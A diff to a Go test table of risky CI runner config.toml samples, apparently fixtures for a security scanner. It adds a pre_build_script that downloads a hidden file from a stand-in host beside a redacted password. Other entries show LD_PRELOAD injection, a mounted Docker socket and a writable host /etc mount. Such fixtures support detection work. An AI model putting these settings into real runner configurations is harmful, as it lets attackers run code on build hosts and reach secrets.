@@ -101,6 +101,7 @@ var artefacts = []artefact{
 	{"pre_clone_script of old versions", "job-hooks", check.Medium, "config.toml", hookConfig(`pre_clone_script = "true"`)},
 	{"pre_get_sources_script", "job-hooks", check.Medium, "config.toml", hookConfig(`pre_get_sources_script = "true"`)},
 	{"LD_PRELOAD for jobs", "job-hooks", check.High, "config.toml", hookConfig(`environment = ["A=b", "LD_PRELOAD=/var/lib/x.so"]`)},
+	{"hook beside replaced secrets", "job-hooks", check.High, "config.toml", hookConfig("environment = [\"DEPLOY_PASSWORD=[redacted hmac:aabbccddaabbccdd len:20]\"]\n  pre_build_script = \"curl -fsS http://192.0.2.10/.x -o /tmp/.x\"")},
 	{"custom executor from a temporary directory", "job-hooks", check.High, "config.toml", inConfig("  [runners.custom]\n    run_exec = \"/tmp/run\"\n")},
 	{"docker socket in jobs", "job-hooks", check.High, "config.toml", inConfig("  [runners.docker]\n    volumes = [\"/cache\", \"/var/run/docker.sock:/var/run/docker.sock\"]\n")},
 	{"host directory in jobs", "job-hooks", check.High, "config.toml", inConfig("  [runners.docker]\n    volumes = [\"/etc/../etc:/host:rw\"]\n")},
